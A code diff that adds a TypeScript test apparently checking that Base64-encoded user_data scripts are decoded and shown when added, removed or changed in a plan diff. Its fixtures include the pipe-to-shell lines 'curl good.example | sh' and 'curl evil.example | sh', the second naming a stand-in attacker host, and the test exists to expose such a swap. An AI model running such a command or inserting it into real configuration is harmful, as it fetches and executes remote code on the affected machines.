@@ -446,6 +446,19 @@ test("scripts in Base64 are compared line by line", (t) => {
   );
 });
 
+test("scripts in Base64 that are added, removed, or short are decoded", (t) => {
+  const script = Buffer.from("#!/bin/sh\ncurl good.example | sh\n").toString("base64");
+  const [was, is] = ["good", "evil"].map((host) => Buffer.from(`curl ${host}.example | sh`).toString("base64"));
+  const decoded = String.raw`"#!/bin/sh\ncurl good.example | sh\n"`;
+  t.deepEqual(linesOf(undefined, { user_data: script }), [`+ user_data, decoded from Base64: ${decoded}`]);
+  t.deepEqual(linesOf({ user_data: script }, { user_data: null }), [
+    `! user_data, decoded from Base64: ${decoded} → null`,
+  ]);
+  t.deepEqual(linesOf({ user_data: was }, { user_data: is }), [
+    '! user_data, decoded from Base64: "curl good.example | sh" → "curl evil.example | sh"',
+  ]);
+});
+
 function linesOf(before: object | undefined, after: object | undefined): readonly string[] {
   const sides = sidesOf({ before: before ?? null, after: after ?? null }, () => {});
   return changeLines({ differences: differences(sides), replacedBy: [], knownAfterApply: [] }, DETAIL).toSorted();
